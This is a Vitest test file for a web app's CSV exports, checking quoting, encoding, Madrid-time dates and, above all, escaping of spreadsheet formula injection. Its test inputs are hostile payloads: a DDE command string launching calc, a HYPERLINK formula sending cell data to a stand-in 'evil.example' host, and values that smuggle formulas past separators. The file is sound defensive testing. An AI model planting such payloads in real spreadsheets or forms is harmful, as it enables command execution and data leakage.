import { describe, expect, it } from 'vitest';
import { auditCsv } from '../../src/features/audit/csv';
import { chatCsv } from '../../src/features/chat/csv';
import { videoCsv } from '../../src/features/video/csv';
import { newsletterCsv } from '../../src/features/newsletter/csv';
import { csvDate, csvFileName, neutraliseFormula, toCsv } from '../../src/platform/csv';
import type { ChatConversation, VideoConversation } from '../../src/features/conversations/schema';

/**
 * How a spreadsheet reads a CSV file with a given separator (Excel and LibreOffice with Spain's settings split
 * on `;`, elsewhere on `,`): a double quote anywhere opens or closes quoting, a doubled quote inside quotes is
 * one quote, and outside quotes the separator starts a cell and a line break a row. Lenient on purpose: a file
 * written for `,` and read with `;` is not valid CSV for that separator, and this is how spreadsheets cope.
 */
function spreadsheetCells(csv: string, separator: ',' | ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i += 1) {
    const char = csv[i]!;
    if (char === '"') {
      if (quoted && csv[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else quoted = !quoted;
    } else if (!quoted && char === separator) {
      row.push(cell);
      cell = '';
    } else if (!quoted && (char === '\n' || char === '\r')) {
      if (char === '\r' && csv[i + 1] === '\n') i += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

/** A cell a spreadsheet would run: after what it skips, = + - @ (or their full-width forms), not behind a '. */
function runsFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  // eslint-disable-next-line no-control-regex
  return /^[\s\u0000-\u001f\u007f-\u009f\u200b-\u200d\u2060]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);
}

/** What a visitor might type into a name, a chat message or a video transcript. */
const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  ' =1+1',
  '   @SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n+1',
  '\0=1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0001-1',
  '\uff1d1+1',
  'Ana;=1+1',
  'Ana,=1+1',
  'Ana; =1+1',
  'Ana;\t@SUM(A1)',
  'Ana";=1+1',
  '";=1+1;"',
  '""";=1+1',
  'Ana\r\n=1+1',
  'Ana\n;=1+1',
  ';=1+1',
  ',=1+1',
  '"=1+1"',
];

function chat(content: string): ChatConversation {
  return {
    sessionId: content,
    language: 'es',
    conversationStarted: '2026-01-01T10:00:00.000Z',
    lastActivity: '2026-01-01T10:00:00.000Z',
    messageCount: 1,
    messages: [{ role: 'user', content, timestamp: '2026-01-01T10:00:00.000Z' }],
  } as unknown as ChatConversation;
}

function video(text: string): VideoConversation {
  return {
    sessionId: text,
    language: 'es',
    conversationStarted: '2026-01-01T10:00:00.000Z',
    conversationEnded: null,
    duration: null,
    conversationUrl: text,
    transcript: [{ speaker: text, text, timestamp: text }],
    clientReported: [],
  } as unknown as VideoConversation;
}

describe('CSV', () => {
  it('quotes every field, per RFC 4180 with CRLF line ends', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['plain', 'has, comma'],
          ['has "quote"', 'two\nlines'],
          ['', null],
          [42, 'x'],
        ],
      ),
    ).toBe('\ufeff"a","b"\r\n"plain","has, comma"\r\n"has ""quote""","two\nlines"\r\n"",""\r\n"42","x"\r\n');
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\0x'])('neutralises a formula cell starting %j', (cell) => {
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it.each([' =1+1', '  +1', '\t=1', '\r\n@SUM(A1)', '\n-1', '\u00a0=1', '\u3000@x', '\ufeff=1', '\u200b=1', '\uff1d1'])(
    'neutralises a formula behind leading whitespace or control characters: %j',
    (cell) => {
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    },
  );

  it.each(['+34 600 123 456', '+34600123456', '+1 212 555 0100', '+44 20 7946 0958'])(
    'shows a phone number as typed: %j (a + then digits and single spaces cannot run anything)',
    (cell) => {
      expect(neutraliseFormula(cell)).toBe(cell);
      expect(toCsv(['Phone'], [[cell]])).toBe(`\ufeff"Phone"\r\n"${cell}"\r\n`);
    },
  );

  it.each([
    '+1',
    '+1+1',
    '+SUM(A1)',
    '+34 600;cmd',
    '+34-600-123-456',
    '+34 (600) 123 456',
    '+34.600.123.456',
    ' +34 600 123 456',
    '+34 600 123 456\n=1+1',
    '+34  600 123 456',
    '+34 600 123 456 ',
    '\uff0b34 600 123 456',
    '+1234567890123456',
  ])('keeps the guard on anything else that starts with +: %j', (cell) => {
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it('leaves ordinary text alone', () => {
    for (const cell of ['María = owner', 'hello', ' hello', '5-3', 'a@b.c', '', '¿Qué tal?']) {
      expect(neutraliseFormula(cell)).toBe(cell);
    }
  });

  it('writes the exact columns of docs/product.md, "CSV exports", in order', () => {
    // SPEC's newsletter columns first, then the double opt-in's status and the subscriber's language (issue 12).
    expect(newsletterCsv([]).split('\r\n')[0]).toBe(
      '\ufeff"Full Name","Email","Registration Date","Status","Language"',
    );
    expect(chatCsv([]).split('\r\n')[0]).toBe(
      '\ufeff"Session ID","Message Role","Message Content","Timestamp","Language","Started","Message Count"',
    );
    // The video export keeps the SPEC's columns first and adds what only the visitor's page reported.
    expect(videoCsv([]).split('\r\n')[0]).toBe(
      '\ufeff"Session ID","Speaker","Text","Timestamp","Language","Started","Duration","URL","Client-Reported"',
    );
    expect(csvFileName('newsletter-subscribers', new Date('2026-03-04T10:00:00Z'))).toBe(
      'newsletter-subscribers-2026-03-04.csv',
    );
  });

  it('starts every file with the UTF-8 byte-order mark, once, so Excel reads accents', () => {
    const csv = newsletterCsv([
      { id: 'x', fullName: 'María Núñez', email: 'm@b.es', registrationDate: '2026-03-04T10:05:00.000Z' },
    ]);
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.indexOf('\ufeff', 1)).toBe(-1);
    expect(new TextDecoder().decode(bytes)).toContain('"María Núñez"');
  });

  it("writes dates as Madrid's local time, summer and winter, in a format Excel reads as a date", () => {
    expect(csvDate('2026-01-15T09:05:00.000Z')).toBe('2026-01-15 10:05'); // CET, UTC+1
    expect(csvDate('2026-07-15T09:05:59Z')).toBe('2026-07-15 11:05'); // CEST, UTC+2
    expect(csvDate('2026-03-29T00:59:00Z')).toBe('2026-03-29 01:59'); // the hour before the change
    expect(csvDate('2026-03-29T01:00:00Z')).toBe('2026-03-29 03:00'); // the clocks go forward
    expect(csvDate('2026-12-31T23:30:00+00:00')).toBe('2027-01-01 00:30'); // a new day (and year) in Madrid
    // What is not a moment stays as it is: empty, a transcript's offset, a visitor's text.
    for (const value of ['', '00:01:05', '2026-03-04', '=1+1', 'yesterday']) expect(csvDate(value)).toBe(value);
    expect(csvDate(null)).toBe('');
    const audit = auditCsv([
      {
        id: 'a',
        at: '2026-03-04T10:05:00.000Z',
        actor: 'ana',
        actorRole: 'admin',
        action: 'user.create',
        target: 'bob',
        detail: '',
      } as never,
    ]).split('\r\n');
    expect(audit[1]).toBe('"2026-03-04 11:05","ana","admin","user.create","bob",""');
    const chatLines = chatCsv([chat('hola')]).split('\r\n');
    expect(chatLines[1]).toBe('"hola","user","hola","2026-01-01 11:00","es","2026-01-01 11:00","1"');
  });

  it('escapes a formula in a subscriber name', () => {
    const csv = newsletterCsv([
      { id: 'x', fullName: '=HYPERLINK("http://evil")', email: 'a@b.c', registrationDate: '2025-01-01T00:00:00.000Z' },
    ]);
    expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil"")","a@b.c","2025-01-01 01:00","confirmed","en"`);
  });

  it('reads back, with a comma separator, exactly the values written (plus the apostrophe on formulas)', () => {
    const csv = newsletterCsv(
      HOSTILE.map((value, i) => ({ id: String(i), fullName: value, email: value, registrationDate: value })),
    );
    // SPEC's three columns, then status and language (issue 12).
    const rows = spreadsheetCells(csv, ',').slice(1);
    expect(rows).toEqual(
      HOSTILE.map((value) => [...Array<string>(3).fill(neutraliseFormula(value)), 'confirmed', 'en']),
    );
  });

  it.each([',', ';'] as const)(
    'runs no formula whatever a visitor typed, in any column, when a spreadsheet splits on %j',
    (separator) => {
      const files = [
        newsletterCsv(
          HOSTILE.map((value, i) => ({ id: String(i), fullName: value, email: value, registrationDate: value })),
        ),
        chatCsv(HOSTILE.map(chat)),
        videoCsv(HOSTILE.map(video)),
      ];
      for (const csv of files) {
        const cells = spreadsheetCells(csv, separator).flat();
        expect(cells.length).toBeGreaterThan(HOSTILE.length);
        expect(cells.filter(runsFormula)).toEqual([]);
      }
    },
  );

  it('puts every visitor value inside quotes, so a `;` never splits a line', () => {
    const csv = chatCsv(HOSTILE.map(chat));
    // With `;` as the separator, each line (a quoted field can hold a line break) stays one cell.
    const rows = spreadsheetCells(csv, ';');
    expect(rows.every((row) => row.length === 1)).toBe(true);
    expect(rows).toHaveLength(HOSTILE.length + 1);
  });
});
